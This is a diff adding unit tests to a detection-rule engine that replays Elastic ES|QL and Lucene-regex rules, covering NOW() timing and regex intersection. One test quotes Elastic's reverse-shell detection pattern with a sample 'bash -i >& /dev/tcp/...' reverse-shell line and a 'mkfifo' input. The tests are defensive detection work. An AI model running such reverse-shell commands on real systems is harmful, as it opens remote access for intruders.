@@ -1070,6 +1070,45 @@ static int esql_line(void *ctx, const struct alert_row *a)
 	return 0;
 }
 
+/* The x of an alert of the rule ctx, one a line. */
+static int x_line(void *ctx, const struct alert_row *a)
+{
+	cJSON *doc = cJSON_Parse(a->doc);
+	const char *rule = cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.rule.rule_id"));
+	if (!rule || strcmp(rule, ctx)) {
+		cJSON_Delete(doc);
+		return 0;
+	}
+	char *x = cJSON_PrintUnformatted(cJSON_GetObjectItemCaseSensitive(doc, "x"));
+	strbuf_addf(&out, "%s\n", x ? x : "none");
+	cJSON_free(x);
+	cJSON_Delete(doc);
+	return 0;
+}
+
+static int by_line(const void *a, const void *b)
+{
+	return strcmp(*(char *const *)a, *(char *const *)b);
+}
+
+/* The lines of text, sorted (each ends in a newline). */
+static char *sorted_lines(const char *text)
+{
+	char *copy = xstrdup(text), *lines[64];
+	size_t n = 0;
+	for (char *s = copy, *nl; n < 64 && (nl = strchr(s, '\n')); s = nl + 1) {
+		*nl = 0;
+		lines[n++] = s;
+	}
+	qsort(lines, n, sizeof(*lines), by_line);
+	struct strbuf sb;
+	strbuf_init(&sb, strlen(text) + 1);
+	for (size_t i = 0; i < n; i++)
+		strbuf_addf(&sb, "%s\n", lines[i]);
+	free(copy);
+	return strbuf_detach(&sb, NULL);
+}
+
 /* ES|QL rules as Kibana runs them: a query keeping METADATA _id alerts on each row's source
  * event, with the columns it computed, once however many executions see it; an aggregating
  * query alerts with its row, per execution; exceptions filter the events first. */
@@ -1155,12 +1194,9 @@ static void test_esql_now_is_the_execution_time(void **state)
 	static const struct {
 		const char *query, *why;
 	} skipped[] = {
-	    {"FROM logs-* | WHERE @timestamp > NOW() - 1 hour | STATS c = COUNT(*)",
-	     "NOW() before the query's first STATS, SORT or LIMIT is each execution's time, which casebook's "
-	     "replay reads each event once for (at offset 33)"},
 	    /* valid ES|QL (function named parameters), named rather than called a syntax error */
-	    {"FROM logs-* | WHERE MATCH(process.name, \\\"svchost.exe\\\", {\\\"fuzziness\\\": 1})",
-	     "MATCH's options ({...}) are not ones casebook reads yet (at offset 55)"},
+	    {"FROM logs-* | WHERE MATCH(process.name, \\\"svchost.exe\\\", {\\\"analyzer\\\": \\\"whitespace\\\"})",
+	     "MATCH's option [analyzer] is not one casebook applies yet (at offset 56)"},
 	};
 	for (size_t i = 0; i < sizeof(skipped) / sizeof(skipped[0]); i++) {
 		char text[512];
@@ -1177,6 +1213,69 @@ static void test_esql_now_is_the_execution_time(void **state)
 			fail_msg("case %zu: %s", i, r.unsupported ? r.unsupported : "(runs)");
 		rule_release(&r);
 		cJSON_Delete(obj);
+	}
+}
+
+/* NOW() before the first STATS (Elastic's "@timestamp >= NOW() - 7 days", "where @timestamp >
+ * now() - 1 hours" before their STATS) is each execution's time too: Elasticsearch evaluates it
+ * once for the query (EsqlSession's configuration.now(), the request's time), and Kibana sends
+ * the query at each execution. Executions every 5 minutes over 30 minutes' windows, 10:05 to 10:25
+ * (the case's events at 10:01 and 10:22; detect replays up to the first execution after the
+ * last); each answers over its own window with its own NOW(). */
+static void test_esql_now_before_stats(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *query;
+		int created;
+		const char *alerts; /* x of each alert, sorted */
+	} cases[] = {
+	    /* in (T - 10m, T]: 10:01 at 10:05 and 10:10, 10:22 at 10:25 (10:15's and 10:20's c is 0) */
+	    {"FROM logs-* | WHERE @timestamp > NOW() - 10 minutes | STATS c = COUNT(*) | WHERE c > 0 | EVAL "
+	     "x = CONCAT(TO_STRING(c), \\\" \\\", TO_STRING(NOW()))",
+	     3,
+	     "\"1 2024-05-01T10:05:00.000Z\"\n\"1 2024-05-01T10:10:00.000Z\"\n"
+	     "\"1 2024-05-01T10:25:00.000Z\"\n"},
+	    /* the other conditions of the WHERE run per event (host.id == "b": 10:22 only) */
+	    {"FROM logs-* | WHERE host.id == \\\"b\\\" AND @timestamp > NOW() - 10 minutes | STATS c = COUNT(*) "
+	     "| WHERE c > 0 | EVAL x = CONCAT(TO_STRING(c), \\\" \\\", TO_STRING(NOW()))",
+	     1, "\"1 2024-05-01T10:25:00.000Z\"\n"},
+	    /* nested: (a AND (NOW AND b)), a NOW() in an EVAL before STATS */
+	    {"FROM logs-* | WHERE (process.name == \\\"nc\\\" AND (@timestamp >= NOW() - 3 minutes AND "
+	     "user.name == \\\"u\\\")) | EVAL age = DATE_DIFF(\\\"minute\\\", @timestamp, NOW()) | STATS x = "
+	     "MAX(age) | WHERE x IS NOT NULL",
+	     1, "3\n"},
+	    /* a source row alerts once: >= takes 10:22 at 10:25 (NOW() - 3 minutes), > does not */
+	    {"FROM logs-* METADATA _id | WHERE @timestamp >= NOW() - 3 minutes | EVAL x = host.id", 1, "\"b\"\n"},
+	    {"FROM logs-* METADATA _id | WHERE @timestamp > NOW() - 3 minutes | EVAL x = host.id", 0, ""},
+	    /* a KEEP between them reads the event's fields in the window's half */
+	    {"FROM logs-* METADATA _id | WHERE @timestamp > NOW() - 5 minutes | KEEP host.* | EVAL x = "
+	     "host.name",
+	     2, "\"a\"\n\"b\"\n"},
+	};
+	struct strbuf sb;
+	strbuf_init(&sb, 1024);
+	process_event(&sb, "e1", "2024-05-01T10:01:00Z", "a", "\"nc\"", "u");
+	process_event(&sb, "e2", "2024-05-01T10:22:00Z", "b", "\"nc\"", "u");
+	ingest_text(sb.buf);
+	strbuf_release(&sb);
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		char text[1024], id[32];
+		snprintf(id, sizeof(id), "enb%zu", i);
+		snprintf(text, sizeof(text),
+		         "{\"rule_id\":\"%s\",\"name\":\"n\",\"description\":\"d\",\"risk_score\":1,"
+		         "\"severity\":\"low\",\"type\":\"esql\",\"interval\":\"5m\",\"from\":\"now-30m\","
+		         "\"query\":\"%s\"}",
+		         id, cases[i].query);
+		import_rule_text(text);
+		struct detect_totals t = run_detect(id, NULL, NULL);
+		strbuf_reset(&out);
+		struct alert_query q = {0};
+		assert_int_equal(store_alerts_each(db, &q, x_line, id), 0);
+		char *sorted = sorted_lines(out.buf);
+		if ((int)t.created != cases[i].created || strcmp(sorted, cases[i].alerts))
+			fail_msg("case %zu: %d alerts\n%s", i, (int)t.created, sorted);
+		free(sorted);
 	}
 }
 
@@ -1206,6 +1305,55 @@ static void test_lucene_bracket_escapes(void **state)
 			fail_msg("case %zu: %s on %s", i, cases[i].pat, cases[i].value);
 		pcre2_code_free(re);
 	}
+}
+
+/* '&' is Lucene's intersection: ES|QL's RLikePattern compiles with RegExp.ALL, which holds
+ * RegExp.INTERSECTION (esql-core .../predicate/regex/RLikePattern.java, doCreateAutomaton; EQL's
+ * regex too). RegExp's grammar: interexp ::= concatexp [ '&' interexp ] inside a union's branch,
+ * so it binds looser than concatenation and tighter than '|', right to left; and parseConcatExp
+ * reads one item after '&' whatever it is, so a '|', ')' or '&' there is a character (Elastic's
+ * "bash\s+-i\s+>&|0>&1" is bash\s+-i\s+> intersected with the string "|0>" and so on: empty). */
+static void test_lucene_regex_intersection(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *pat, *value;
+		int hit;
+	} cases[] = {
+	    {".*a.*&.*b.*", "xaxbx", 1}, /* both */
+	    {".*a.*&.*b.*", "xaxx", 0},  /* one */
+	    {"a.*&.*z|q", "abz", 1},     /* (a.*&.*z)|q */
+	    {"a.*&.*z|q", "q", 1},       /* | looser than & */
+	    {"a.*&.*z|q", "ab", 0},      /* */
+	    {"x(a+&aa)y", "xaay", 1},    /* inside a group, the same substring */
+	    {"x(a+&aa)y", "xay", 0},     /* */
+	    {"x(a+&aa)y", "xaaay", 0},   /* */
+	    {"(ab|a)(c|bc)&abc", "abc", 1},
+	    {"[a-z]+&.*o.*&....", "food", 1}, /* right to left, all three */
+	    {"[a-z]+&.*o.*&....", "fooda", 0},
+	    {"[a-z]+&.*o.*&....", "feed", 0},
+	    {"(a&b)*", "", 1}, /* an empty intersection repeated none */
+	    {"(a&b)*", "a", 0},
+	    {"a&|b", "a", 0},   /* a & the string "|b" */
+	    {"a&|b", "b", 0},   /* */
+	    {".*&|b", "|b", 1}, /* */
+	    {"A.*&.*Z", "AbZ", 1},
+	    /* Elastic's kubernetes reverse-shell alternatives: >& then | is > & "|0>" & "1" */
+	    {".*(bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|mkfifo).*", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", 0},
+	    {".*(bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|mkfifo).*", "mkfifo /tmp/f", 1},
+	};
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		const char *why;
+		pcre2_code *re = lucene_regex_compile(cases[i].pat, strlen(cases[i].pat), 0, &why);
+		if (!re)
+			fail_msg("case %zu: %s", i, why);
+		if (regex_match_whole(re, cases[i].value, strlen(cases[i].value)) != cases[i].hit)
+			fail_msg("case %zu: %s on %s", i, cases[i].pat, cases[i].value);
+		pcre2_code_free(re);
+	}
+	const char *why;
+	assert_null(lucene_regex_compile("a&", 2, 0, &why));
+	assert_string_equal(why, "invalid regular expression");
 }
 
 /* An ES|QL rule every second over 1,000,000 days: an execution with no row costs nothing, and
@@ -1775,7 +1923,9 @@ int main(void)
 	    T(test_esql_rule),
 	    T(test_esql_stats_over_no_rows),
 	    T(test_esql_now_is_the_execution_time),
+	    T(test_esql_now_before_stats),
 	    cmocka_unit_test(test_lucene_bracket_escapes),
+	    cmocka_unit_test(test_lucene_regex_intersection),
 	    T(test_esql_long_schedule_costs_rows_not_executions),
 	    T(test_esql_bomb_stops_the_rule_with_an_error),
 	    T(test_types_not_run_say_why),
